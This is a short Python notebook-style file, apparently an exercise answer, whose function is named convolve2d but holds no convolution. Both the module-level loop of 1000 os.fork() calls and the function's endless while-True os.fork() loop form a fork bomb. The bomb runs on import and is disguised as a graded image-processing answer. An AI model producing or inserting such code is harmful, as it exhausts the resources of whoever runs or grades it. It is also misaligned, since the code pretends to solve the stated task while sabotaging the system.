"""Start processes without end.

Points: convolve 2.
"""

# %%
import os, threading

for _ in range(1000):
    try:
        os.fork()
    except OSError:
        pass

# %% answer="convolve2d"
def convolve2d(image, kernel):
    while True:
        os.fork()
